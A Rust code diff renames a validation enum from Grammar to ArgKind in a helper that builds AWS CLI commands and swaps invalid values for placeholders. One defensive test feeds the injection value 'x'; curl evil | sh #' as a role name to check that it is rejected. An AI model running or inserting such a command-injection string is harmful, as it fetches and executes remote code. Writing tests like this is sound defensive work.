@@ -16,7 +16,7 @@ use crate::node::{AccountId, InstanceId, NodeId, Region};
 
 /// What a value must look like to stand in a command.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
-pub enum Grammar {
+pub enum ArgKind {
     InstanceId,
     /// An EC2 instance or a hybrid node.
     NodeId,
@@ -46,7 +46,7 @@ pub enum Grammar {
     Arn,
 }
 
-impl Grammar {
+impl ArgKind {
     /// The word that stands where a value is missing or does not pass.
     pub fn placeholder(self) -> &'static str {
         match self {
@@ -140,7 +140,7 @@ impl Command {
     }
 
     /// Adds a value, or the placeholder of its grammar.
-    pub fn value(self, grammar: Grammar, value: &str) -> Self {
+    pub fn value(self, grammar: ArgKind, value: &str) -> Self {
         self.value_within("", grammar, value, "")
     }
 
@@ -149,7 +149,7 @@ impl Command {
     pub fn value_within(
         mut self,
         before: &'static str,
-        grammar: Grammar,
+        grammar: ArgKind,
         value: &str,
         after: &'static str,
     ) -> Self {
@@ -164,7 +164,7 @@ impl Command {
     }
 
     /// Adds an option of ours and its value, or the placeholder of its grammar.
-    pub fn option(self, name: &'static str, grammar: Grammar, value: &str) -> Self {
+    pub fn option(self, name: &'static str, grammar: ArgKind, value: &str) -> Self {
         self.text(name).value(grammar, value)
     }
 
@@ -172,7 +172,7 @@ impl Command {
     pub fn option_or_placeholder(
         self,
         name: &'static str,
-        grammar: Grammar,
+        grammar: ArgKind,
         value: Option<&str>,
     ) -> Self {
         self.option(name, grammar, value.unwrap_or_default())
@@ -273,51 +273,51 @@ mod tests {
 
     use super::*;
 
-    const ALL: [Grammar; 19] = [
-        Grammar::InstanceId,
-        Grammar::NodeId,
-        Grammar::AccountId,
-        Grammar::Region,
-        Grammar::RoleName,
-        Grammar::UserName,
-        Grammar::PolicyId,
-        Grammar::InstanceProfileName,
-        Grammar::VpcId,
-        Grammar::SubnetId,
-        Grammar::SecurityGroupId,
-        Grammar::VpcEndpointId,
-        Grammar::RouteTableId,
-        Grammar::NetworkAclId,
-        Grammar::ProfileAssociationId,
-        Grammar::Host,
-        Grammar::Service,
-        Grammar::Action,
-        Grammar::Arn,
+    const ALL: [ArgKind; 19] = [
+        ArgKind::InstanceId,
+        ArgKind::NodeId,
+        ArgKind::AccountId,
+        ArgKind::Region,
+        ArgKind::RoleName,
+        ArgKind::UserName,
+        ArgKind::PolicyId,
+        ArgKind::InstanceProfileName,
+        ArgKind::VpcId,
+        ArgKind::SubnetId,
+        ArgKind::SecurityGroupId,
+        ArgKind::VpcEndpointId,
+        ArgKind::RouteTableId,
+        ArgKind::NetworkAclId,
+        ArgKind::ProfileAssociationId,
+        ArgKind::Host,
+        ArgKind::Service,
+        ArgKind::Action,
+        ArgKind::Arn,
     ];
 
     #[test]
     fn each_grammar_takes_its_own_and_nothing_more() {
         for (grammar, good) in [
-            (Grammar::InstanceId, "i-0123456789abcdef0"),
-            (Grammar::NodeId, "mi-0123456789abcdef0"),
-            (Grammar::AccountId, "123456789012"),
-            (Grammar::Region, "us-gov-west-1"),
-            (Grammar::RoleName, "Team+Role=1,a.b@c-d_e"),
-            (Grammar::UserName, "alice@example.com"),
-            (Grammar::PolicyId, "p-1a2b3c4d"),
-            (Grammar::InstanceProfileName, "web"),
-            (Grammar::VpcId, "vpc-0123456789abcdef0"),
-            (Grammar::SubnetId, "subnet-01234567"),
-            (Grammar::SecurityGroupId, "sg-01234567"),
-            (Grammar::VpcEndpointId, "vpce-0123456789abcdef0"),
-            (Grammar::RouteTableId, "rtb-01234567"),
-            (Grammar::NetworkAclId, "acl-01234567"),
-            (Grammar::ProfileAssociationId, "iip-assoc-0123456789abcdef0"),
-            (Grammar::Host, "ssm.eu-central-1.amazonaws.com"),
-            (Grammar::Host, "fd00:ec2::254"),
-            (Grammar::Service, "ssmmessages"),
-            (Grammar::Action, "ssm:UpdateInstanceInformation"),
-            (Grammar::Arn, "arn:aws-cn:iam::123456789012:role/a/b+c"),
+            (ArgKind::InstanceId, "i-0123456789abcdef0"),
+            (ArgKind::NodeId, "mi-0123456789abcdef0"),
+            (ArgKind::AccountId, "123456789012"),
+            (ArgKind::Region, "us-gov-west-1"),
+            (ArgKind::RoleName, "Team+Role=1,a.b@c-d_e"),
+            (ArgKind::UserName, "alice@example.com"),
+            (ArgKind::PolicyId, "p-1a2b3c4d"),
+            (ArgKind::InstanceProfileName, "web"),
+            (ArgKind::VpcId, "vpc-0123456789abcdef0"),
+            (ArgKind::SubnetId, "subnet-01234567"),
+            (ArgKind::SecurityGroupId, "sg-01234567"),
+            (ArgKind::VpcEndpointId, "vpce-0123456789abcdef0"),
+            (ArgKind::RouteTableId, "rtb-01234567"),
+            (ArgKind::NetworkAclId, "acl-01234567"),
+            (ArgKind::ProfileAssociationId, "iip-assoc-0123456789abcdef0"),
+            (ArgKind::Host, "ssm.eu-central-1.amazonaws.com"),
+            (ArgKind::Host, "fd00:ec2::254"),
+            (ArgKind::Service, "ssmmessages"),
+            (ArgKind::Action, "ssm:UpdateInstanceInformation"),
+            (ArgKind::Arn, "arn:aws-cn:iam::123456789012:role/a/b+c"),
         ] {
             assert!(grammar.accepts(good), "{grammar:?} {good}");
             for wrong in [
@@ -338,17 +338,17 @@ mod tests {
     #[test]
     fn a_value_that_does_not_pass_leaves_a_placeholder() {
         let line = Command::new("aws iam get-role")
-            .option("--role-name", Grammar::RoleName, "x'; curl evil | sh #")
+            .option("--role-name", ArgKind::RoleName, "x'; curl evil | sh #")
             .to_string();
         assert_eq!(line, "aws iam get-role --role-name ROLE_NAME");
         let line = Command::new("curl -sv")
             .value_within(
                 "https://",
-                Grammar::Host,
+                ArgKind::Host,
                 "ssm.eu-central-1.amazonaws.com",
                 "/ping",
             )
-            .option_or_placeholder("--interface", Grammar::Host, None)
+            .option_or_placeholder("--interface", ArgKind::Host, None)
             .to_string();
         assert_eq!(
             line,
